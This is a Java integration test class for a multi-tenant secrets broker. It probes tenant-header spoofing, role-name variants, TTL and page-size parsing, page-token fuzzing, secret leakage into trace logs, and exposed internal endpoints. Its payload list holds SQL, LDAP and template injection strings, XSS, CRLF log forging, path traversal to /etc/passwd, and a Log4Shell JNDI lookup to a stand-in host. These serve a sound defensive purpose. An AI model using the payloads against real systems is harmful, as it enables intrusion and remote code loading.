package io.hushbus.proof;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.hushbus.support.BrokerNode;
import io.hushbus.support.Brokers;
import io.hushbus.support.Canary;
import io.hushbus.support.Client;
import io.hushbus.support.Tenancy;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** Cases of abuse by somebody with credentials, which no walk over the contract thinks of. */
final class AbuseIT {

  private static final List<String> ORDERS =
      List.of(
          "'; DROP TABLE secret; --",
          "\" OR \"\"=\"",
          "$1 $2 %s %n {} {0}",
          "${jndi:ldap://x.example/a}",
          "#{7*7} {{7*7}} <%= 7*7 %>",
          "line\r\nlevel=ERROR message=forged",
          "\u001B[31mred\u001B[0m\u0007",
          "<script>alert(1)</script>",
          "*)(uid=*))(|(uid=*",
          "\u202Etxt.exe \uFEFF\u2028\u2029",
          "../../etc/passwd");

  private static Brokers brokers;
  private static BrokerNode node;
  private static Tenancy acme;
  private static Client anybody;
  private static Client admin;
  private static Client app;
  private static Client runner;

  @BeforeAll
  static void start() {
    brokers = Brokers.fresh();
    node = brokers.start();
    anybody = node.client("");
    acme = brokers.tenant(node.client(brokers.operator()), "acme");
    brokers.tenant(node.client(brokers.operator()), "globex");
    admin = anybody.as(acme.admin());
    app = anybody.as(acme.app());
    runner = anybody.as(acme.runner());
    app.post("/secrets?project=demo", secret("leased")).expect(201);
  }

  @AfterAll
  static void stop() {
    brokers.close();
  }

  @Test
  void n25_the_tenant_is_the_tokens_whatever_else_names_one() {
    Client.Answer plain = app.get("/auth/whoami").expect(200);
    for (String header :
        List.of("X-Tenant", "X-Vault-Namespace", "X-Hushbus-Tenant", "X-Forwarded-Host")) {
      assertThat(app.send("GET", "/auth/whoami", header, "globex").body()).isEqualTo(plain.body());
    }
    assertThat(app.get("/secrets?tenant=globex").code()).isEqualTo("invalid");
    JsonObject named = secret("with-tenant").put("tenant", "globex");
    assertThat(app.post("/secrets", named).code()).isEqualTo("invalid");
  }

  @Test
  void n28_a_role_has_one_spelling_and_operator_is_not_given_in_a_tenant() {
    String account =
        admin.post("/service-accounts", named("spelling")).expect(201).json().getString("id");
    for (String role :
        List.of("operator", "Operator", "admin ", " admin", "ADMIN", "\uFF41dmin", "root", "")) {
      JsonObject binding = new JsonObject().put("service_account", account).put("role", role);
      assertThat(admin.post("/role-bindings", binding).status()).as(role).isEqualTo(400);
    }
  }

  @Test
  void n33_a_child_of_another_parent_is_not_there() {
    String one = admin.post("/service-accounts", named("one")).json().getString("id");
    String two = admin.post("/service-accounts", named("two")).json().getString("id");
    String key =
        admin
            .post("/service-accounts/" + one + "/keys", new JsonObject())
            .expect(201)
            .json()
            .getString("id");
    admin.delete("/service-accounts/" + two + "/keys/" + key).expect(404);
    app.post("/secrets?project=demo", secret("of-two-versions")).expect(201);
    app.put("/secrets/of-two-versions?project=demo", value()).expect(200);
    app.get("/secrets/of-two-versions/versions/2?project=demo").expect(200);
    app.get("/secrets/leased/versions/2?project=demo").expect(404);
    admin.delete("/service-accounts/" + one + "/keys/" + key).expect(204);
  }

  @Test
  void n46_an_odd_time_is_refused_or_cut_and_never_endless() {
    for (String ttl :
        List.of("-1s", "0", "0s", "768h1ms", "\u221E", "1.5h", "1e3", "NaN", "1h ", "+1h", "P1D")) {
      assertThat(leased(ttl).status()).as(ttl).isEqualTo(400);
    }
    for (Object ttl : List.of(60, -1, 1.5, true)) {
      JsonObject ask = ask().put("ttl", ttl);
      assertThat(runner.post("/leases", ask).status()).as("%s", ttl).isEqualTo(400);
    }
    assertThat(leased("9223372036854775808").status()).isEqualTo(400);
    JsonObject cut = leased("3650d").expect(201).json();
    JsonObject lease = cut.getJsonArray("leases").getJsonObject(0);
    assertThat(lease.getString("expires_at"))
        .isLessThanOrEqualTo(lease.getString("max_expires_at"));
  }

  @Test
  void n47_what_other_programs_would_obey_is_text_here() {
    ListAppender<ILoggingEvent> log = new ListAppender<>();
    log.start();
    root().addAppender(log);
    for (int i = 0; i < ORDERS.size(); i++) {
      String order = ORDERS.get(i);
      String name = "order-" + i + "x";
      JsonObject labels = new JsonObject().put("order", order);
      JsonObject made = secret(name).put("description", order).put("labels", labels);
      app.post("/secrets?project=demo", made).expect(201);
      JsonObject kept = app.get("/secrets/" + name + "?project=demo").expect(200).json();
      assertThat(kept.getString("description")).isEqualTo(order);
      assertThat(kept.getJsonObject("labels").getString("order")).isEqualTo(order);
      app.send("GET", "/secrets?project=demo", "User-Agent", "${jndi:x} " + i).expect(200);
    }
    root().detachAppender(log);
    assertThat(log.list)
        .allSatisfy(
            event -> {
              String line = event.getFormattedMessage() + event.getMDCPropertyMap();
              assertThat(line).doesNotContain("\n", "\r", "\u001B", "jndi", "DROP TABLE");
            });
  }

  @Test
  void n88_a_list_is_cut_into_pages_however_long() {
    for (String size : List.of("0", "-1", "501", "1000000", "1e2", "")) {
      assertThat(app.get("/secrets?project=demo&page_size=" + size).status())
          .as(size)
          .isEqualTo(400);
    }
    for (int i = 0; i < 55; i++) {
      app.post("/secrets?domain=staging", secret("many-" + i + "x")).expect(201);
    }
    JsonObject page = app.get("/secrets?domain=staging").expect(200).json();
    assertThat(page.getJsonArray("secrets")).hasSize(50);
    assertThat(page.getString("next_page_token")).isNotEmpty();
  }

  /** Of every list in the contract: a bug would be a 500. */
  @Test
  void any_text_as_a_page_token_is_a_place_in_the_list_or_refused() {
    List<String> lists =
        List.of(
            "/secrets?project=demo&",
            "/secrets?inherited=true&",
            "/secrets/leased/versions?project=demo&",
            "/projects?",
            "/domains?",
            "/service-accounts?",
            "/role-bindings?",
            "/leases?",
            "/audit?",
            "/audit/checkpoints?");
    SplittableRandom random = new SplittableRandom(20_260_417);
    for (String list : lists) {
      Client.Answer first = admin.get(list + "page_size=1").expect(200);
      String real = first.json().getString("next_page_token", "ZGVtbw");
      for (int n = 0; n < 60; n++) {
        String token = mutant(real, random);
        Client.Answer answer = admin.get(list + "page_size=1&page_token=" + token);
        assertThat(answer.status()).as("%s %s", list, token).isIn(200, 400);
      }
    }
  }

  private static String mutant(String real, SplittableRandom random) {
    byte[] bytes = Base64.getUrlDecoder().decode(real.replaceAll("[^A-Za-z0-9_-]", ""));
    switch (random.nextInt(4)) {
      case 0 -> bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
      case 1 -> bytes = Arrays.copyOf(bytes, random.nextInt(bytes.length * 2));
      case 2 -> random.nextBytes(bytes);
      default -> bytes = ORDERS.get(random.nextInt(ORDERS.size())).getBytes(UTF_8);
    }
    return bytes.length == 0 ? "_" : Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  /** The values of all other tests of this class count too: they are canaries. */
  @Test
  void n92_nothing_is_logged_of_values_at_the_finest_level() {
    Level usual = root().getLevel();
    root().setLevel(Level.TRACE);
    try {
      app.post("/secrets?project=demo", secret("traced")).expect(201);
      app.put("/secrets/traced?project=demo", value()).expect(200);
      app.sendText("PUT", "/secrets/traced?project=demo", "{\"value\":\"" + Canary.value())
          .expect(415);
      app.sendText(
              "PUT",
              "/secrets/traced?project=demo",
              "{\"value\":\"" + Canary.value(),
              "Content-Type",
              "application/json")
          .expect(400);
      runner.post("/leases", ask("traced")).expect(201);
      anybody.as(Canary.value()).get("/secrets").expect(401);
    } finally {
      root().setLevel(usual);
    }
  }

  @Test
  void n93_the_insides_are_not_on_the_public_listener() {
    for (String path :
        List.of("/metrics", "/livez", "/readyz", "/health", "/debug", "/actuator/env", "/jmx")) {
      for (Client caller : List.of(anybody, admin, node.client(brokers.operator()))) {
        String at = node.address() + path;
        assertThat(caller.send("GET", at).status()).as(path).isEqualTo(404);
      }
    }
    assertThat(node.management("/debug").status()).isEqualTo(404);
    assertThat(node.management("/threaddump").status()).isEqualTo(404);
    assertThat(node.management("/metrics").expect(200).body())
        .doesNotContain("acme", "globex", "leased", acme.admin());
  }

  private static Client.Answer leased(String ttl) {
    return runner.post("/leases", ask().put("ttl", ttl));
  }

  private static JsonObject ask() {
    return ask("leased");
  }

  private static JsonObject ask(String secret) {
    JsonArray secrets = new JsonArray().add(new JsonObject().put("secret", secret));
    return new JsonObject().put("project", "demo").put("secrets", secrets);
  }

  private static JsonObject secret(String name) {
    return value().put("name", name).put("type", "text");
  }

  private static JsonObject value() {
    return new JsonObject().put("value", Canary.value());
  }

  private static JsonObject named(String name) {
    return new JsonObject().put("name", name);
  }

  private static Logger root() {
    return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
  }
}
